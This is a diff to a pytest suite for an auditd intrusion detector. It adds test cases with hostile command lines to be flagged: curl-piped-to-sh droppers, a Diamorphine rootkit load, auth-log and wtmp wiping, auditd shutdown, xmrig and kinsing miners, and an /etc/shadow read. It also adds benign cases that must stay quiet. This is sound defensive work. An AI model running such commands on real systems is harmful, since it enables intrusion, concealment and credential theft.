@@ -697,9 +697,32 @@ def test_auditd_execve_of_reverse_shells_and_recon_tools(detector):
     assert fired(detector.scan([nmap])) == {"lw-auditd-recon-tool"}
 
 
+@pytest.mark.parametrize("args, rule_id, level", [
+    ('argc=3 a0="sh" a1="-c" a2="curl -fsSL http://45.9.20.11/x.sh | sh"', "lw-auditd-download-execute", "high"),
+    ('argc=4 a0="wget" a1="http://45.9.20.11/kdev" a2="-O" a3="/tmp/kdevtmpfs"', "lw-auditd-download-execute", "high"),
+    ('argc=2 a0="/sbin/insmod" a1="/dev/shm/.r/diamorphine.ko"', "lw-auditd-kernel-module-from-temp", "critical"),
+    ('argc=3 a0="rm" a1="-f" a2="/var/log/auth.log"', "lw-auditd-log-tampering", "high"),
+    ('argc=4 a0="shred" a1="-u" a2="-z" a3="/var/log/wtmp"', "lw-auditd-log-tampering", "high"),
+    ('argc=3 a0="auditctl" a1="-e" a2="0"', "lw-auditd-log-tampering", "high"),
+    ('argc=3 a0="systemctl" a1="stop" a2="auditd"', "lw-auditd-log-tampering", "high"),
+    ('argc=3 a0="/usr/sbin/service" a1="auditd" a2="stop"', "lw-auditd-log-tampering", "high"),
+    ('argc=5 a0="/tmp/.x/xmrig" a1="-o" a2="stratum+tcp://pool.example:4444" a3="--donate-level" a4="1"',
+     "lw-auditd-cryptominer", "high"),
+    ('argc=3 a0="/var/tmp/kinsing" a1="-c" a2="/var/tmp/cfg"', "lw-auditd-cryptominer", "high"),
+    ('argc=2 a0="cat" a1="/etc/shadow"', "lw-auditd-shadow-read", "high"),
+])
+def test_auditd_droppers_rootkits_log_wipes_miners_and_hash_theft(detector, args, rule_id, level):
+    assert [(s.rule_id, s.level) for s in detector.scan([execve(args)])] == [(rule_id, level)]
+
+
 @pytest.mark.parametrize("args", ['argc=2 a0="ls" a1="-la"', 'argc=4 a0="nc" a1="-zv" a2="db01" a3="5432"',
                                   'argc=3 a0="chmod" a1="755" a2="/usr/local/bin/deploy.sh"',
-                                  'argc=3 a0="bash" a1="-c" a2="echo hello"'])
+                                  'argc=3 a0="bash" a1="-c" a2="echo hello"',
+                                  'argc=2 a0="modprobe" a1="overlay"', 'argc=2 a0="cat" a1="/etc/hosts"',
+                                  'argc=4 a0="curl" a1="-o" a2="/home/u/report.csv" a3="https://example.com/r"',
+                                  'argc=2 a0="rm" a1="/var/log/app/old.log.1"',
+                                  'argc=3 a0="systemctl" a1="restart" a2="auditd"',
+                                  'argc=3 a0="service" a1="auditd" a2="restart"'])
 def test_auditd_benign_execs_are_quiet(detector, args):
     assert detector.scan([execve(args)]) == []
 
